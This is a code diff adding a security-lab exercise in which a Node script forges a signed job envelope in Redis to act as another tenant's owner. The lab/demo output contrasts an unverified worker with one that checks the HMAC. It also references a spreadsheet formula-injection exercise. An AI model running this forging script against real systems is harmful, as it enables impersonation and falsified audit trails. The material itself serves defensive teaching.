@@ -38,6 +38,8 @@ export interface Exercise {
   internal?: boolean;
   /** Milliseconds each mode's test may take, when more than the project's test timeout (a timed measurement). */
   timeoutMs?: number;
+  /** Writes into the worker's queues: uses `$REDIS_URL` and `$QUEUE_PREFIX` (the lab's start banner prints both; needs `worker`). */
+  queue?: boolean;
 }
 
 /** The login helper every exercise that signs in starts with. */
@@ -82,6 +84,26 @@ const INTERNAL_POST = [
   `  signature=$(printf '%s' "$canonical" | openssl dgst -sha256 -mac HMAC -macopt "key:$KEY_SECRET" -binary | basenc --base64url -w0 | tr -d '=')`,
   `  curl -s -X POST "$INTERNAL$1" -H 'content-type: application/json' -H "x-benteng-key-id: $KEY_ID" -H "x-benteng-timestamp: $ts" -H "x-benteng-nonce: $nonce" -H "x-benteng-signature: $signature" -H "x-benteng-operator: $OPERATOR" -H "x-benteng-reason: $3" -d "$2"`,
   '}',
+].join('\n');
+
+/**
+ * `node -e "$FORGE" REDIS_URL QUEUE_PREFIX TENANT USER JOB` (run from the repository root: bullmq and
+ * ioredis from node_modules): queues a `jobs.probe` job whose envelope has the documented shape
+ * (libs/jobs/src/job-envelope.ts) and names TENANT and USER, with a made-up key id and signature;
+ * prints the job's final state.
+ */
+const FORGE = [
+  'const [url, prefix, tenantId, userId, jobId] = process.argv.slice(1);',
+  'const { Queue } = require("bullmq"), Redis = require("ioredis"), { randomBytes } = require("node:crypto");',
+  'const connection = new Redis(url, { maxRetriesPerRequest: null }), queue = new Queue("jobs", { connection, prefix });',
+  'const envelope = { v: 1, kind: "tenant", name: "jobs.probe", tenantId, actor: { kind: "user", userId }, requestId: "forged-in-redis", issuedAt: new Date().toISOString(), data: {} };',
+  '(async () => {',
+  '  await queue.add("jobs.probe", { envelope, kid: "k1", sig: randomBytes(32).toString("base64url") }, { jobId, attempts: 1 });',
+  '  let state = "";',
+  '  for (let i = 0; i < 60 && state !== "completed" && state !== "failed"; i++) { await new Promise((r) => setTimeout(r, 500)); state = await queue.getJobState(jobId); }',
+  '  console.log("the forged job: " + state);',
+  '  await queue.close(); connection.disconnect();',
+  '})();',
 ].join('\n');
 
 export const EXERCISES: readonly Exercise[] = [
@@ -311,6 +333,33 @@ export const EXERCISES: readonly Exercise[] = [
     ].join('\n'),
     lab: { shows: ['invoice 201', 'cell starts: "=HYPERLINK'], means: 'the cell is a live formula: opening the export in a spreadsheet offers a link that sends the row next to it to the attacker' },
     demo: { shows: ['invoice 201', 'cell starts: "\'=HYPERLINK'], means: 'the cell is prefixed with a quote, so a spreadsheet shows the text instead of running it' },
+  },
+  {
+    control: 'JOB-ENVELOPE',
+    follows: "someone with write access to Redis queues a jobs.probe job with a made-up signature naming another tenant and its owner, and the worker writes it into that tenant's audit trail as the owner's action",
+    worker: true,
+    queue: true,
+    commands: [
+      LOGIN,
+      '# The victim: Nusantara Logistik and its owner. Ids are not secrets (every job of the tenant kept in Redis carries them); here they come from the owner\u2019s profile.',
+      'OWNER=$(login owner@nusantara-logistik.example)',
+      `read -r TENANT OWNER_ID < <(curl -s "$BASE/v1/me" -H "authorization: Bearer $OWNER" | jq -r '"\\(.tenant.id) \\(.user.id)"')`,
+      '# The attacker can write to the worker\u2019s Redis but holds no signing key: a jobs.probe job in that tenant, in its owner\u2019s name, under a job id of their own wording, with a made-up signature (bullmq from node_modules: run this from the repository root).',
+      'JOB="owner-approved-payout-$RANDOM$RANDOM"',
+      `node -e '${FORGE}' "$REDIS_URL" "$QUEUE_PREFIX" "$TENANT" "$OWNER_ID" "$JOB"`,
+      '# What Nusantara Logistik\u2019s audit trail holds in its owner\u2019s name: the owner\u2019s own data subject access export (docs/privacy.md).',
+      `EXPORT=$(curl -s -X POST "$BASE/v1/privacy/requests" -H "authorization: Bearer $OWNER" -H 'content-type: application/json' -d '{"kind":"access","subject":"me"}' | jq -r .exportId)`,
+      `for i in $(seq 1 60); do [ "$(curl -s "$BASE/v1/exports/$EXPORT" -H "authorization: Bearer $OWNER" | jq -r .status)" = ready ] && break; sleep 1; done`,
+      `curl -s "$BASE/v1/exports/$EXPORT/content" -H "authorization: Bearer $OWNER" | jq -r --arg job "job:$JOB" --arg owner "user:$OWNER_ID" '[.auditEvents[] | select(.subject == $job)] | "events of the forged job in the trail: \\(length)", (.[] | "\\(.type) by \\(if .actor == $owner then "the owner" else .actor end) (role \\(.data.role))")'`,
+    ].join('\n'),
+    lab: {
+      shows: ['the forged job: completed', 'events of the forged job in the trail: 1', 'job.probe by the owner (role owner)'],
+      means: 'the worker believed the envelope: a real job of the demo ran in a tenant the attacker named, as its owner, and the tenant\u2019s hash-chained audit trail now records an action the owner never took, under the attacker\u2019s wording (the chain verifies: the worker wrote it). Anyone who can write to Redis acts in every tenant, as any of its members',
+    },
+    demo: {
+      shows: ['the forged job: failed', 'events of the forged job in the trail: 0'],
+      means: 'the worker checks the envelope\u2019s HMAC (JOB_SIGNING_KEYS) before any handler runs: the made-up signature fails the job for good, and the refusal is only logged (`job refused: envelope not verified`), never written into the tenant the forger named',
+    },
   },
   {
     control: 'MEMBERSHIP-CONSENT',
